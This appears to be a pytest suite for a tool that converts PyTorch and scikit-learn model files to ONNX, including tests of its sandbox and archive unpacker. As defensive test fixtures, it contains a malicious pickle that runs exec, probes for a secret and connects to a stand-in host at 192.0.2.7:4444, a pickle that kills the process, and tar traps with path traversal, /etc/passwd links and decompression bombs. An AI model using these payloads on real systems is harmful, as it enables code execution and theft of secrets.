"""A vendor's model file becomes ONNX that answers the same, or a one-line refusal; it takes nothing from us."""

import gzip
import io
import os
import pickle
import tarfile
import textwrap
from pathlib import Path
from typing import Any

import numpy as np
import onnx
import onnxruntime
import pytest

from reversible.errors import SourceError
from reversible_exporters import conversion, model_archive, model_document
from reversible_exporters.sklearn_onnx import SklearnConverter
from reversible_exporters.torch_onnx import TorchConverter

torch = pytest.importorskip("torch")


@pytest.fixture(scope="module")
def net() -> Any:
    """A net with batch and layer normalisation; weights drawn, never trained: conversion does not care."""
    with torch.random.fork_rng():
        torch.manual_seed(7)
        made = torch.nn.Sequential(
            torch.nn.Linear(6, 8), torch.nn.BatchNorm1d(8), torch.nn.ReLU(), torch.nn.LayerNorm(8),
            torch.nn.Linear(8, 3), torch.nn.Softmax(dim=1),
        )  # fmt: skip
        made[1].running_mean.normal_()
        made[1].running_var.uniform_(0.5, 1.5)
    return made.eval()


@pytest.fixture(scope="module")
def pt2(net: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path: Path = tmp_path_factory.mktemp("torch") / "model.pt2"
    program = torch.export.export(net, (torch.zeros(2, 6),), dynamic_shapes=({0: torch.export.Dim("batch")},))
    torch.export.save(program, str(path))
    return path


@pytest.fixture(scope="module")
def pipeline() -> Any:
    from sklearn.impute import SimpleImputer
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import StandardScaler

    draw = np.random.default_rng(0)
    rows = draw.normal(3, 2, (80, 4)).astype(np.float32)
    return make_pipeline(SimpleImputer(), StandardScaler(), LogisticRegression()).fit(rows, rows[:, 0] > 3)


@pytest.fixture(scope="module")
def joblib_file(pipeline: Any, tmp_path_factory: pytest.TempPathFactory) -> Path:
    import joblib

    path: Path = tmp_path_factory.mktemp("sklearn") / "model.joblib"
    joblib.dump(pipeline, path)
    return path


@pytest.mark.parametrize("rows", [1, 2, 5, 64, 333])
def test_a_torch_program_answers_the_same_in_batches_that_were_never_traced(
    net: Any, pt2: Path, tmp_path: Path, rows: int
) -> None:
    target = tmp_path / "model.onnx"

    described = TorchConverter().convert(pt2, target)

    asked = np.random.default_rng(rows).normal(0, 1, (rows, 6)).astype(np.float32)
    session = onnxruntime.InferenceSession(str(target), providers=["CPUExecutionProvider"])
    answer = session.run(None, {described["inputs"][0]["name"]: asked})[0]
    with torch.no_grad():
        assert np.abs(answer - net(torch.from_numpy(asked)).numpy()).max() < 1e-6
    assert described["domains"] == ["ai.onnx"]
    assert {node.op_type for node in onnx.load(str(target)).graph.node} >= {"BatchNormalization", "LayerNormalization"}


def test_a_file_carries_no_path_of_the_machine_that_converted_it(pt2: Path, tmp_path: Path) -> None:
    TorchConverter().convert(pt2, tmp_path / "model.onnx")

    content = (tmp_path / "model.onnx").read_bytes()
    assert os.fsencode(Path(torch.__file__).parents[1]) not in content
    assert os.fsencode(Path(__file__).parent) not in content


def test_a_pipeline_answers_its_probabilities_missing_values_too(
    pipeline: Any, joblib_file: Path, tmp_path: Path
) -> None:
    described = SklearnConverter().convert(joblib_file, tmp_path / "model.onnx")

    asked = np.random.default_rng(1).normal(3, 2, (50, 4)).astype(np.float32)
    asked[::7, 1] = np.nan
    session = onnxruntime.InferenceSession(str(tmp_path / "model.onnx"), providers=["CPUExecutionProvider"])
    (answer,) = session.run(None, {described["inputs"][0]["name"]: asked})
    assert np.abs(answer - pipeline.predict_proba(asked)).max() < 1e-6
    assert [output["name"] for output in described["outputs"]] == ["probabilities"]


def test_a_program_traced_for_one_batch_size_is_refused_with_the_fix(net: Any, tmp_path: Path) -> None:
    torch.export.save(torch.export.export(net, (torch.zeros(2, 6),)), str(tmp_path / "model.pt2"))

    with pytest.raises(SourceError, match="batch of exactly 2") as refused:
        TorchConverter().convert(tmp_path / "model.pt2", tmp_path / "model.onnx")

    assert "dynamic_shapes" in refused.value.hint


@pytest.mark.parametrize("suffix", [".pt2", ".joblib"])
@pytest.mark.parametrize("damage", ["garbage", "empty", "cut"])
def test_a_damaged_file_is_refused_in_one_line(
    suffix: str, damage: str, pt2: Path, joblib_file: Path, tmp_path: Path
) -> None:
    whole = (pt2 if suffix == ".pt2" else joblib_file).read_bytes()
    broken = tmp_path / f"model{suffix}"
    broken.write_bytes({"garbage": b"\x00garbage" * 99, "empty": b"", "cut": whole[: len(whole) // 2]}[damage])
    converter = TorchConverter() if suffix == ".pt2" else SklearnConverter()

    with pytest.raises(SourceError, match=f"^model{suffix} is not a whole") as refused:
        converter.convert(broken, tmp_path / "model.onnx")

    assert "\n" not in refused.value.message


@pytest.mark.parametrize(
    "held", [{"not": "a model"}, "text", [1, 2]], ids=["dict", "text", "list"]
)  # fmt: skip
def test_a_pickle_of_something_else_is_refused(held: Any, tmp_path: Path) -> None:
    (tmp_path / "model.joblib").write_bytes(pickle.dumps(held))

    with pytest.raises(SourceError, match="not a fitted scikit-learn model"):
        SklearnConverter().convert(tmp_path / "model.joblib", tmp_path / "model.onnx")


class Payload:
    """What a hostile file does when it is opened: looks for secrets, calls home, and then plays the honest model."""

    def __init__(self, honest: Any) -> None:
        self._honest = pickle.dumps(honest)

    def __reduce__(self) -> tuple[Any, ...]:
        code = textwrap.dedent("""
            import os, pickle, socket
            print({"error": "spoofed", "hint": ""})
            assert "CANARY_SECRET" not in os.environ
            try:
                socket.create_connection(("192.0.2.7", 4444), timeout=2)
            except OSError:
                pass
            model = pickle.loads(honest)
        """)
        return eval, (f"(lambda scope: (exec({code!r}, scope), scope['model'])[1])(dict(honest={self._honest!r}))",)


def test_code_in_a_file_finds_no_secret_and_no_network_and_is_named(
    pipeline: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CANARY_SECRET", "hunter2")
    (tmp_path / "model.joblib").write_bytes(pickle.dumps(Payload(pipeline)))

    done = conversion.convert("sklearn", tmp_path / "model.joblib", tmp_path / "model.onnx")

    assert done.executed_vendor_code
    assert (tmp_path / "model.onnx").exists()
    if done.fence in ("namespace", "bubblewrap", "seccomp"):
        assert any("192.0.2.7:4444" in attempt for attempt in done.attempts)


def test_a_refusal_comes_through_the_fence_as_one_line(tmp_path: Path) -> None:
    (tmp_path / "model.joblib").write_bytes(b"garbage")

    with pytest.raises(SourceError, match=r"model\.joblib is not a whole joblib file"):
        conversion.convert("sklearn", tmp_path / "model.joblib", tmp_path / "model.onnx")


def test_a_file_that_ends_the_process_is_a_refusal_too(tmp_path: Path) -> None:
    class Exit:
        def __reduce__(self) -> tuple[Any, ...]:
            return os._exit, (0,)

    (tmp_path / "model.joblib").write_bytes(pickle.dumps(Exit()))

    with pytest.raises(SourceError, match="its conversion ended with status 0"):
        conversion.convert("sklearn", tmp_path / "model.joblib", tmp_path / "model.onnx")


@pytest.mark.parametrize(
    ("names", "found"),
    [
        (["model.pt2", "labels.json"], ("model.pt2", "torch")),
        (["code/model.joblib"], ("code/model.joblib", "sklearn")),
    ],
)
def test_the_converter_is_found_by_the_names(names: list[str], found: tuple[str, str]) -> None:
    assert conversion.source_in(names, "s3://models/a.tar.gz") == found


@pytest.mark.parametrize(
    ("names", "said"),
    [
        (["model.bin", "README.md"], "nothing in it can be converted to ONNX; it holds model.bin, README.md"),
        (["a.pt2", "b/a.pt2"], "2 models in it can be converted to ONNX; it holds a.pt2, b/a.pt2"),
    ],
)
def test_a_package_of_no_model_or_of_several_is_refused(names: list[str], said: str) -> None:
    with pytest.raises(SourceError, match=said):
        conversion.source_in(names, "s3://models/a.tar.gz")


# --- the archive -----------------------------------------------------------------------------------------------


def entry(name: str, **attributes: Any) -> tarfile.TarInfo:
    made = tarfile.TarInfo(name)
    for key, value in attributes.items():
        setattr(made, key, value)
    return made


def archive(path: Path, *members: tuple[tarfile.TarInfo, bytes]) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for info, content in members:
            info.size = len(content)
            tar.addfile(info, io.BytesIO(content))
    return path


TRAPS = {
    "climbs out": (entry("../evil"), b"x"),
    "climbs out inside": (entry("a/../../evil"), b"x"),
    "absolute": (entry("/etc/evil"), b"x"),
    "symbolic link": (entry("link", type=tarfile.SYMTYPE, linkname="/etc/passwd"), b""),
    "link inside": (entry("link", type=tarfile.SYMTYPE, linkname="model.pt2"), b""),
    "hard link": (entry("link", type=tarfile.LNKTYPE, linkname="../../etc/passwd"), b""),
    "device": (entry("null", type=tarfile.CHRTYPE, devmajor=1, devminor=3), b""),
    "pipe": (entry("pipe", type=tarfile.FIFOTYPE), b""),
}


@pytest.mark.parametrize("trap", TRAPS.values(), ids=TRAPS)
def test_a_trap_in_the_archive_is_refused_by_name_and_nothing_leaves_the_folder(
    trap: tuple[tarfile.TarInfo, bytes], tmp_path: Path
) -> None:
    packed = archive(tmp_path / "model.tar.gz", (entry("model.pt2"), b"fine"), trap)

    with pytest.raises(SourceError, match=r"model\.tar\.gz: .*(evil|link|null|pipe)"):
        model_archive.unpack(packed, tmp_path / "a/b")

    assert {path.name for path in tmp_path.rglob("*") if path.is_file()} <= {"model.tar.gz", "model.pt2"}


def test_an_archive_that_unpacks_to_far_too_much_is_refused_before_it_is_written(tmp_path: Path) -> None:
    packed = archive(tmp_path / "model.tar.gz", (entry("zeros"), bytes(100 << 20)))

    with pytest.raises(SourceError, match="more than is believable"):
        model_archive.unpack(packed, tmp_path / "out")

    assert not (tmp_path / "out/zeros").exists()


def test_a_bomb_in_a_header_is_counted_too(tmp_path: Path) -> None:
    path = tmp_path / "model.tar.gz"
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        tar.addfile(entry("model.pt2", pax_headers={"comment": "0" * (80 << 20)}), io.BytesIO())

    with pytest.raises(SourceError, match="more than is believable"):
        model_archive.unpack(path, tmp_path / "out")


def test_the_same_name_twice_is_refused(tmp_path: Path) -> None:
    packed = archive(tmp_path / "model.tar.gz", (entry("model.pt2"), b"a"), (entry("./model.pt2"), b"b"))

    with pytest.raises(SourceError, match="twice"):
        model_archive.unpack(packed, tmp_path / "out")


@pytest.mark.parametrize(
    "content", [b"", b"garbage" * 200, gzip.compress(b"garbage" * 200)], ids=["empty", "garbage", "zipped garbage"]
)
def test_what_is_no_archive_is_refused(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "model.tar.gz").write_bytes(content)

    with pytest.raises(SourceError, match=r"model\.tar\.gz"):
        model_archive.unpack(tmp_path / "model.tar.gz", tmp_path / "out")


@pytest.mark.parametrize("zipped", [True, False])
def test_a_cut_archive_is_refused(zipped: bool, tmp_path: Path) -> None:
    packed = archive(tmp_path / "model.tar.gz", (entry("model.pt2"), os.urandom(50_000)))
    content = packed.read_bytes() if zipped else gzip.decompress(packed.read_bytes())
    packed.write_bytes(content[:20_000])

    with pytest.raises(SourceError, match="not a whole tar archive"):
        model_archive.unpack(packed, tmp_path / "out")


@pytest.mark.parametrize("name", ["été.json", ".hidden", "with space", "a/.b/c", "x" * 150, "Ω"])
def test_a_name_that_no_bundle_may_hold_is_replaced_and_remembered(name: str, tmp_path: Path) -> None:
    packed = archive(tmp_path / "model.tar.gz", (entry(name), b"x"), (entry("code/plain.py"), b"y"))

    odd, plain = model_archive.unpack(packed, tmp_path / "out")

    assert odd.name == name
    assert odd.path.startswith("renamed-")
    assert (tmp_path / "out" / odd.path).read_bytes() == b"x"
    assert plain.path == "code/plain.py"
    assert model_archive.digests(packed) == {odd.name: odd.sha256, plain.name: plain.sha256}


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b'["a", "b"]', ["a", "b"]),
        (b'{"0": "a", "1": "b"}', ["a", "b"]),
        (b'{"1": "b", "0": "a"}', ["a", "b"]),
        (b'{"0": "a", "2": "b"}', None),
        (b"[]", None),
        (b"not json", None),
        (None, None),
    ],
)
def test_labels_are_read_from_a_list_or_an_index(content: bytes | None, expected: list[str] | None) -> None:
    assert model_document.labels(content) == expected
